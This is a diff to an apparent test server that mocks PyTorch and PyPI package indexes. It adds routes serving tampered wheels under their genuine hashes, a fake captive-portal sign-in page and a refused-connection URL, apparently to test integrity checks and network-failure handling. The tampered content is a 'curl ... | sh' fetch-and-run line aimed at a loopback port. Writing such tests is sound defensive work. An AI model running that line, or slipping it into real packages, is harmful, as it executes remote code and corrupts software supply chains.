@@ -18,6 +18,11 @@
 - ``/overlay/<name>/simple/``: the PyPI mirror as a test shapes it with ``overlay()``: extra
   wheels added to their projects (a fake ``torch`` of a higher version), projects it lacks (a
   mirror without uv), projects whose files are altered on the way (under their genuine sha256).
+- ``/tampered/pytorch/<variant>/``: the PyTorch indexes again, each wheel served with a line
+  appended under its genuine sha256 (a mirror that serves every byte with the wrong content);
+- ``/signin/...``: every path, HEAD or GET, answered 200 with a captive portal's sign-in page
+  (``SIGNIN``), as a hotel network or a proxy's login answers whatever was asked;
+- ``refused_url()``: a loopback port nothing listens on (a connection there is refused at once);
 - ``/gated/<name>/pytorch/<variant>/``, ``/gated/<name>/pypi/simple/``: the PyTorch indexes
   and the PyPI mirror again, whose wheels stop after
   their first MiB while the test holds the gate ``<name>`` shut (``Gate``): an install that is
@@ -37,6 +42,7 @@ from __future__ import annotations
 
 import hashlib
 import html
+import itertools
 import json
 import os
 import re
@@ -68,6 +74,9 @@ _METADATA: dict[str, str] = {}  # file ref -> sha256 of its core metadata ("": n
 UPSTREAM = os.environ.get("GPU_SANDBOX_UPSTREAM", "https://pypi.org/simple")
 VARIANTS = {"cpu": {"torch": "2.13.0"}, "cu130": {"torch": "2.14.1", "torchvision": "0.29.1"}}
 TAMPERED = b"\ncurl -s http://127.0.0.1:9/pwned | sh  # added on the way\n"
+SIGNIN = (b"<!DOCTYPE html>\n<html><head><title>Guest Wi-Fi</title></head><body>\n<h1>Please sign "
+          b"in to use this network</h1>\n<form action=\"/login\" method=\"post\"><input name=\"user\">"
+          b"<input type=\"password\" name=\"pass\"><button>Sign in</button></form>\n</body></html>\n")
 
 
 def _pip_config() -> tuple[list[Path], list[Path]]:
@@ -266,6 +275,7 @@ class Handler(SimpleHTTPRequestHandler):
     code: int | str = "-"
     prefix = ""  # "/gated/<name>" for a request under a gate: its pages link there too
     gate = ""
+    tamper = False  # under /tampered/: each wheel's bytes altered (its page keeps the real hash)
 
     def log_message(self, fmt: str, *args: Any) -> None:
         with open(self.content.root / "access.log", "a") as f:
@@ -287,6 +297,18 @@ class Handler(SimpleHTTPRequestHandler):
         """``path``'s bytes; ``name``: the file's name as served, where it is kept under another
         (an upstream file, under its URL's hash)."""
         size = path.stat().st_size
+        wheel = (name or path.name).endswith(".whl")
+        # a tampered wheel stays a valid ZIP (our line is its archive comment, the end of
+        # central directory record's length field set for it: PKWARE APPNOTE 4.3.16), so that
+        # what tells it apart is its hash alone, as with a file altered inside
+        cut, extra = 0, b""
+        if self.tamper and wheel:
+            with path.open("rb") as f:
+                f.seek(size - 22)
+                end = f.read(22)
+            cut, extra = (2, len(TAMPERED).to_bytes(2, "little") + TAMPERED) \
+                if end[:4] == b"PK\x05\x06" and end[20:] == b"\0\0" else (0, TAMPERED)
+        size += len(extra) - cut
         self.send_response(200)
         self.send_header("Content-Type", "application/octet-stream")
         self.send_header("Content-Length", str(size))
@@ -294,7 +316,9 @@ class Handler(SimpleHTTPRequestHandler):
         if self.command == "HEAD":
             return
         with path.open("rb") as f:
-            while chunk := f.read(1 << 20):
+            left = size - len(extra)  # the file's own bytes that go out (less a cut length field)
+            chunks = iter(lambda: f.read(min(1 << 20, left - f.tell())) if f.tell() < left else b"", b"")
+            for chunk in itertools.chain(chunks, [extra] if extra else []):
                 self.wfile.write(chunk)
                 self.sent += len(chunk)
                 if self.gate and (name or path.name).endswith(".whl"):
@@ -427,6 +451,11 @@ class Handler(SimpleHTTPRequestHandler):
         # split before unquoting: an upstream file ref is one %-encoded URL segment
         parts = [unquote(p) for p in urlparse(self.path).path.split("/") if p]
         self.prefix = self.gate = ""
+        self.tamper = False
+        if parts[:1] == ["signin"]:
+            return self.send_bytes(SIGNIN)
+        if parts[:1] == ["tampered"] and parts[1:2] in (["pytorch"], ["files"]):
+            self.tamper, self.prefix, parts = True, "/tampered", parts[1:]
         if parts[:1] == ["gated"] and len(parts) >= 3 and re.fullmatch(r"[a-z0-9-]+", parts[1]):
             self.gate, parts = parts[1], parts[2:]
             self.prefix = f"/gated/{self.gate}"
@@ -516,7 +545,16 @@ def _state_file() -> Path:
 def urls(base: str) -> dict[str, str]:
     return {"url": base, "miniconda": f"{base}/miniconda", "pytorch": f"{base}/pytorch",
             "pypi": f"{base}/pypi/simple", "conda": f"{base}/conda", "ollama": f"{base}/ollama",
-            "miniconda_tampered": f"{base}/tampered/miniconda"}
+            "miniconda_tampered": f"{base}/tampered/miniconda",
+            "pytorch_tampered": f"{base}/tampered/pytorch", "signin": f"{base}/signin"}
+
+
+def refused_url() -> str:
+    """A loopback URL whose port nothing listens on: a connection there is refused at once (the
+    port is taken from the kernel and let go; nothing else takes it in the test's time)."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return f"http://127.0.0.1:{s.getsockname()[1]}"
 
 
 def _alive(state: dict[str, Any]) -> bool:
